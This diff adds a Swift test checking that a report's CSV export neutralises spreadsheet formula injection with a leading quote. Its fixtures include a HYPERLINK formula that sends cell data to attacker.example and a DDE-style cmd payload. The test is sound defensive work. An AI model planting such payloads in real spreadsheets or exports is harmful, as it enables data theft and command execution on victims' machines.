@@ -36,6 +36,28 @@ import Testing
         #expect(!html.contains("<script") && !html.contains("src=\"http"))
     }
 
+    /// A CSV cell a spreadsheet would run as a formula is neutralised with a leading `'`; the
+    /// report's own negative numbers stay numbers.
+    @Test func csvCellsAreNeverFormulas() {
+        var report = Self.report
+        report.frequentEscalations = [
+            .init(question: "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Bấm vào đây\")", count: 3, tickets: [7]),
+            .init(question: "+84 cmd|' /C calc'!A0", count: 2, tickets: [8]),
+            .init(question: "-2+3", count: 1, tickets: [9]), .init(question: "@SUM(1+1)", count: 1, tickets: [10]),
+        ]
+        report.topics = [.init(topic: "an-toan", name: "An toàn thông tin", count: 10, previous: 40)]
+        let csv = ReportFormat.csv.render(report)
+        #expect(csv.contains(#"escalated,"'=HYPERLINK(""http://attacker.example/?""&A1,""Bấm vào đây"")",3"#))
+        #expect(csv.contains("escalated,'+84 cmd|' /C calc'!A0,2"))
+        #expect(csv.contains("escalated,'-2+3,1") && csv.contains("escalated,'@SUM(1+1),1"))
+        #expect(csv.contains("topic,an-toan,10,40,-0.750"))
+        for line in csv.split(separator: "\n") {
+            for cell in line.split(separator: ",") {
+                if let first = cell.first, "=+@".contains(first) { Issue.record("formula cell: \(cell)") }
+            }
+        }
+    }
+
     /// Headless Chromium draws the page; the picture is far from blank (a blank page drawn the
     /// same way compresses to a fraction of its size).
     @Test func chromiumDrawsTheReport() throws {
